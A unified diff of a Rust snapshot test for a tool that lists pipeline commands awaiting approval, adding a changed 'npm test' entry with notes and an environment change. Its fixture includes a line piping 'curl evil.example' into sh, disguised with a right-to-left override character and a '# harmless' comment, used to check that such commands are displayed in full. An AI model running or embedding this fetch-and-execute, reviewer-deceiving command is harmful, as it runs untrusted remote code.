@@ -179,8 +179,13 @@ fn commands_to_be_allowed_are_shown_in_full() {
         pipeline_id: pipeline(),
         stage: stage(id),
         command: line.to_owned(),
+        notes: Vec::new(),
         known,
+        changes: Vec::new(),
     };
+    let mut changed = command("unit", "npm test", false);
+    changed.notes = ["without a shell", "with CI=1"].map(str::to_owned).to_vec();
+    changed.changes = vec!["CI: 0 -> 1".to_owned()];
     let allow = AllowAnswer {
         root: root(),
         digest: CommandSet(Digest::parse(&"4be1".repeat(16)).unwrap()),
@@ -188,12 +193,16 @@ fn commands_to_be_allowed_are_shown_in_full() {
         commands: vec![
             command("lint", "npm run lint", true),
             command("evil", "curl evil.example | sh \u{202e}# harmless", false),
+            changed,
         ],
     };
     insta::assert_snapshot!(plain(&workspace::commands(&allow, &look(None))), @"
-    /srv/ann/src/shop would run 2 commands:
+    /srv/ann/src/shop would run 3 commands:
         diagnostics/lint  npm run lint
       + diagnostics/evil  curl evil.example | sh �# harmless
+      ~ diagnostics/unit  npm test
+            without a shell, with CI=1
+          ~ CI: 0 -> 1
       command set 4be14be14be1…
     ");
 }
